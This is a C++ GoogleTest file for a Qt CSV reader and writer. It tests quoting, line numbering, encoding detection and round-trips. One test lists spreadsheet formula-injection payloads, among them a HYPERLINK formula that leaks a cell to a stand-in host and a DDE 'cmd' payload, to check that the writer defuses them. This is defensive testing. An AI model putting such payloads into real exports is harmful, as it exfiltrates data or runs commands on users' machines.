#include "CsvReader.h"
#include "CsvWriter.h"

#include <QBuffer>
#include <QStringEncoder>

#include <gtest/gtest.h>

using namespace od;

TEST(CsvReaderTest, QuotedFieldsKeepCommasQuotesAndLineBreaks)
{
    const auto result = CsvReader::parse(u"code,name,address\r\nC1,\"上海, 浦东\",\"He said "
                                         u"\"\"hi\"\"\"\r\nC2,\"two\r\nlines\",x\r\nC3,plain,y\r\n");
    ASSERT_TRUE(result.errors.isEmpty());
    ASSERT_EQ(result.records.size(), 4);
    EXPECT_EQ(result.records[1].fields, QStringList({"C1", "上海, 浦东", "He said \"hi\""}));
    EXPECT_EQ(result.records[2].fields, QStringList({"C2", "two\nlines", "x"}));
    // Line numbers are physical lines: the record after a two-line cell starts on line 5.
    EXPECT_EQ(result.records[2].line, 3);
    EXPECT_EQ(result.records[3].line, 5);
}

TEST(CsvReaderTest, UnterminatedQuoteNamesTheLineWhereItOpens)
{
    const auto result = CsvReader::parse(u"code,name\nC1,ok\nC2,\"never closed\nC3,x\n");
    ASSERT_EQ(result.errors.size(), 1);
    EXPECT_EQ(result.errors[0].line, 3);
    EXPECT_TRUE(result.errors[0].message.contains(u"never closed"));
}

TEST(CsvReaderTest, TextAfterClosingQuoteIsAnErrorOnItsLine)
{
    const auto result = CsvReader::parse(u"code,name\nC1,\"abc\"def\nC2,fine\n");
    ASSERT_EQ(result.errors.size(), 1);
    EXPECT_EQ(result.errors[0].line, 2);
    ASSERT_EQ(result.records.size(), 3);
    EXPECT_TRUE(result.records[1].malformed);
    EXPECT_FALSE(result.records[2].malformed);
}

TEST(CsvReaderTest, BlankAndCommaOnlyLinesAreNotRecords)
{
    const auto result = CsvReader::parse(u"a,b\n\n1,2\n,,\n3,4");
    ASSERT_EQ(result.records.size(), 3);
    EXPECT_EQ(result.records[2].line, 5);
    EXPECT_EQ(result.records[2].fields, QStringList({"3", "4"}));
}

TEST(CsvReaderTest, DetectsUtf8WithAndWithoutBomAndGbk)
{
    const QByteArray withBom = QByteArray("\xEF\xBB\xBF") + QStringLiteral("name\n上海\n").toUtf8();
    auto decoded = CsvReader::decode(withBom);
    EXPECT_EQ(decoded.encoding, "UTF-8");
    EXPECT_EQ(decoded.text, QStringLiteral("name\n上海\n")); // the BOM is not part of the first column name

    decoded = CsvReader::decode(QStringLiteral("name\n上海\n").toUtf8());
    EXPECT_EQ(decoded.encoding, "UTF-8");
    EXPECT_EQ(decoded.text, QStringLiteral("name\n上海\n"));

    // 上海 as Excel saves it on Chinese Windows (GBK): C9 CF BA A3.
    decoded = CsvReader::decode(QByteArray("name\n\xC9\xCF\xBA\xA3\n"));
    EXPECT_TRUE(decoded.ok);
    EXPECT_EQ(decoded.encoding, "GB18030");
    EXPECT_EQ(decoded.text, QStringLiteral("name\n上海\n"));
}

TEST(CsvReaderTest, DamagedUtf8IsReportedNotMisreadAsGbk)
{
    QByteArray bytes = QStringLiteral("code,name\nC1,上海华东机械\nC2,北京远航").toUtf8();
    bytes += '\xFF'; // one broken byte on line 3
    bytes += QStringLiteral("贸易\nC3,广州南方电器\n").toUtf8();
    const auto result = CsvReader::read(bytes);
    ASSERT_EQ(result.errors.size(), 1);
    EXPECT_EQ(result.errors[0].line, 3);
    EXPECT_TRUE(result.errors[0].message.contains("not valid UTF-8"));
    EXPECT_TRUE(result.records.isEmpty());
}

TEST(CsvWriterTest, QuotesOnlyWhereNeededAndEndsLinesWithCrLf)
{
    EXPECT_EQ(CsvWriter::formatRow({"C1", "上海", "a,b", "say \"hi\"", "two\nlines", ""}),
              QStringLiteral("C1,上海,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\r\n"));
}

TEST(CsvWriterTest, WhatItWritesReadsBackTheSame)
{
    const QList<QStringList> rows = {{"code", "name", "address"},
                                     {"C1", "华东机械, 有限公司", "\"引号\"\n第二行"},
                                     {"C2", "", "  spaces  "}};
    QBuffer buffer;
    buffer.open(QIODevice::WriteOnly);
    CsvWriter writer(buffer);
    writer.writeByteOrderMark();
    for (const QStringList& row : rows)
        writer.writeRow(row);
    ASSERT_TRUE(writer.ok());
    EXPECT_TRUE(buffer.data().startsWith("\xEF\xBB\xBF"));

    const auto read = CsvReader::read(buffer.data());
    ASSERT_TRUE(read.errors.isEmpty());
    ASSERT_EQ(read.records.size(), rows.size());
    for (int i = 0; i < rows.size(); ++i)
        EXPECT_EQ(read.records[i].fields, rows[i]);
}

TEST(CsvWriterTest, CellsASpreadsheetWouldRunAsFormulasAreDefusedAndReadBackAsTheyWere)
{
    const QStringList hostile = {QStringLiteral("=HYPERLINK(\"http://x.example/?leak=\"&A1,\"Click\")"),
                                 QStringLiteral("=1+1"),
                                 QStringLiteral("+1-555"),
                                 QStringLiteral("@SUM(1)"),
                                 QStringLiteral("=cmd|' /C calc'!A0"),
                                 QStringLiteral("-2+3"),
                                 QStringLiteral("\t=1"),
                                 QStringLiteral("'=already quoted"),
                                 QStringLiteral("''+twice")};
    const QString row = CsvWriter::formatRow(hostile);
    for (const QString& cell : row.split(u',')) {
        const QString value = cell.startsWith(u'"') ? cell.mid(1) : cell;
        EXPECT_TRUE(value.isEmpty() || value.startsWith(u'\'') ||
                    !QStringLiteral("=+-@\t").contains(value[0]))
            << cell.toStdString();
    }
    EXPECT_TRUE(row.startsWith(QStringLiteral("\"'=HYPERLINK(")));
    EXPECT_TRUE(row.contains(QStringLiteral(",'=1+1,")));
    // Plain numbers, ordinary text and apostrophes before ordinary text are left alone.
    EXPECT_EQ(
        CsvWriter::formatRow({QStringLiteral("-5"), QStringLiteral("+1,234.50"), QStringLiteral("O'Brien"),
                              QStringLiteral("'quoted"), QStringLiteral("a=b")}),
        QStringLiteral("-5,\"+1,234.50\",O'Brien,'quoted,a=b\r\n"));

    const auto read = CsvReader::read(
        (row + CsvWriter::formatRow({QStringLiteral("-5"), QStringLiteral("'quoted")})).toUtf8());
    ASSERT_TRUE(read.errors.isEmpty());
    ASSERT_EQ(read.records.size(), 2);
    EXPECT_EQ(read.records[0].fields, hostile);
    EXPECT_EQ(read.records[1].fields, (QStringList{QStringLiteral("-5"), QStringLiteral("'quoted")}));
}

TEST(CsvReaderTest, ABadByteInAnAsciiFileIsReportedOnItsOwnLine)
{
    const auto result = CsvReader::read("code,name\nC1,Alpha\nC2,Beta\nC3,Gamma\nC4,Del\xff"
                                        "ta\nC5,Eps\n");
    ASSERT_EQ(result.errors.size(), 1);
    EXPECT_EQ(result.errors[0].line, 5);
    EXPECT_TRUE(result.errors[0].message.contains("neither UTF-8 nor GB18030"))
        << result.errors[0].message.toStdString();
    EXPECT_TRUE(result.records.isEmpty());
}

TEST(CsvReaderTest, Utf32IsCalledUtf32WithOrWithoutItsByteOrderMark)
{
    for (const auto flags : {QStringEncoder::Flag::WriteBom, QStringEncoder::Flag::Default}) {
        QStringEncoder utf32(QStringEncoder::Utf32LE, flags);
        const auto result = CsvReader::read(utf32.encode(QStringLiteral("code,name\nC1,上海\n")));
        ASSERT_EQ(result.errors.size(), 1);
        EXPECT_EQ(result.encoding, "UTF-32");
        EXPECT_TRUE(result.errors[0].message.contains("UTF-32")) << result.errors[0].message.toStdString();
    }
    QStringEncoder utf16(QStringEncoder::Utf16LE, QStringEncoder::Flag::WriteBom);
    EXPECT_EQ(CsvReader::read(utf16.encode(QStringLiteral("code,name\n"))).encoding, "UTF-16");
}

TEST(CsvReaderTest, AnOverlongSequenceInUtf8TextIsRefusedNotReadAsGb18030)
{
    // C0 AF is '/' in an overlong (forbidden) UTF-8 form; as GB18030 it would be a Chinese character.
    for (const QByteArray& bytes : {QByteArray("code,name\nC1,上海申通\nC2,..\xc0\xaf..\n"),
                                    QByteArray("code,name\nC1,plain\nC2,..\xc0\xaf..\n")}) {
        const auto result = CsvReader::read(bytes);
        ASSERT_EQ(result.errors.size(), 1) << bytes.toStdString();
        EXPECT_EQ(result.errors[0].line, 3);
        EXPECT_EQ(result.encoding, "UTF-8");
        EXPECT_TRUE(result.records.isEmpty());
    }
    // Real GBK text, short or long, is still read as GB18030.
    for (const QByteArray& gbk :
         {QByteArray("name\n\xC9\xCF\xBA\xA3\n"),
          QByteArray("code,name\nC1,\xC9\xCF\xBA\xA3\xBB\xAA\xB6\xAB\nC2,\xB1\xB1\xBE\xA9\n")}) {
        const auto decoded = CsvReader::decode(gbk);
        EXPECT_TRUE(decoded.ok) << decoded.error.toStdString();
        EXPECT_EQ(decoded.encoding, "GB18030");
    }
}
